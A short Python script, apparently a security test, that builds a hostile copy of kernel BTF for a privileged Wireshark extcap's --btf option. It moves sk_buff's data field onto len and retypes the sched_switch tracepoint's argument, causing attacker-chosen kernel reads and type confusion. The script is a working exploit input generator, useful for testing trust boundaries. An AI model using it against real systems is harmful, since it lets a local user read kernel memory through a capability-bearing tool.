#!/usr/bin/env python3
"""Makes a hostile copy of a kernel's BTF, the kind a member of group wireshark could hand to the
capability-bearing extcap with --btf (docs/security.md):

  craft_btf.py IN OUT            IN: /sys/kernel/btf/vmlinux

- struct sk_buff's member `data` is moved onto `head`'s neighbour, `len` (CO-RE would then
  compute skb->data from the wrong field: a read at an address of the user's choosing);
- the prototype of tracepoint sched_switch (btf_trace_sched_switch) gets a `struct sk_buff *`
  as its argument 1 (`tp:sched:sched_switch:arg1` would then pass the prototype check and
  treat a task_struct as a packet).

Prints what it changed. Exit 1 when the input does not have what it needs."""
import struct
import sys

KIND_INT, KIND_PTR, KIND_ARRAY, KIND_STRUCT, KIND_UNION, KIND_ENUM = 1, 2, 3, 4, 5, 6
KIND_TYPEDEF, KIND_FUNC, KIND_FUNC_PROTO, KIND_VAR, KIND_DATASEC = 8, 12, 13, 14, 15
KIND_DECL_TAG, KIND_ENUM64 = 17, 19


def extra(kind, vlen):
    if kind in (KIND_INT, KIND_VAR, KIND_DECL_TAG):
        return 4
    if kind == KIND_ARRAY:
        return 12
    if kind in (KIND_STRUCT, KIND_UNION, KIND_DATASEC, KIND_ENUM64):
        return 12 * vlen
    if kind in (KIND_ENUM, KIND_FUNC_PROTO):
        return 8 * vlen
    return 0


def main():
    if len(sys.argv) != 3:
        sys.exit("usage: craft_btf.py IN OUT")
    buf = bytearray(open(sys.argv[1], "rb").read())
    magic, _ver, _flags, hdr_len, type_off, type_len, str_off, _str_len = \
        struct.unpack_from("<HBBIIIII", buf, 0)
    if magic != 0xEB9F:
        sys.exit("craft_btf: %s is not raw BTF" % sys.argv[1])
    tstart = hdr_len + type_off
    sstart = hdr_len + str_off

    def name(off):
        end = buf.index(b"\0", sstart + off)
        return buf[sstart + off:end].decode()

    types = [None]  # type id -> (offset of the type record, kind, vlen)
    pos = tstart
    while pos < tstart + type_len:
        _name_off, info, _size = struct.unpack_from("<III", buf, pos)
        kind, vlen = (info >> 24) & 0x1F, info & 0xFFFF
        types.append((pos, kind, vlen))
        pos += 12 + extra(kind, vlen)

    skb = ptr_skb = proto = None
    for tid, (p, kind, vlen) in enumerate(types[1:], 1):
        n = name(struct.unpack_from("<I", buf, p)[0])
        if kind == KIND_STRUCT and n == "sk_buff" and skb is None:
            skb = tid
        elif kind == KIND_TYPEDEF and n == "btf_trace_sched_switch":
            proto = tid
    if skb is None or proto is None:
        sys.exit("craft_btf: no struct sk_buff or btf_trace_sched_switch in the input")
    for tid, (p, kind, vlen) in enumerate(types[1:], 1):
        if kind == KIND_PTR and struct.unpack_from("<I", buf, p + 8)[0] == skb:
            ptr_skb = tid
            break
    # sk_buff: move member `data` to the offset of member `len`
    p, _, vlen = types[skb]
    members = {}
    for i in range(vlen):
        m = p + 12 + 12 * i
        members[name(struct.unpack_from("<I", buf, m)[0])] = m
    if "data" not in members or "len" not in members:
        sys.exit("craft_btf: struct sk_buff has no member data or len")
    struct.pack_into("<I", buf, members["data"] + 8,
                     struct.unpack_from("<I", buf, members["len"] + 8)[0])
    print("struct sk_buff: member data moved onto member len")
    # btf_trace_sched_switch -> PTR -> FUNC_PROTO(void *, bool, task_struct *, ...): argument
    # 1 of the tracepoint (parameter 2, after the context pointer) becomes struct sk_buff *
    t = struct.unpack_from("<I", buf, types[proto][0] + 8)[0]
    while types[t][1] in (KIND_PTR, KIND_TYPEDEF):
        t = struct.unpack_from("<I", buf, types[t][0] + 8)[0]
    p, kind, vlen = types[t]
    if kind != KIND_FUNC_PROTO or vlen < 3:
        sys.exit("craft_btf: btf_trace_sched_switch is not a function prototype")
    struct.pack_into("<I", buf, p + 12 + 8 * 2 + 4, ptr_skb)
    print("sched_switch: argument 1 retyped as struct sk_buff *")
    open(sys.argv[2], "wb").write(buf)


main()
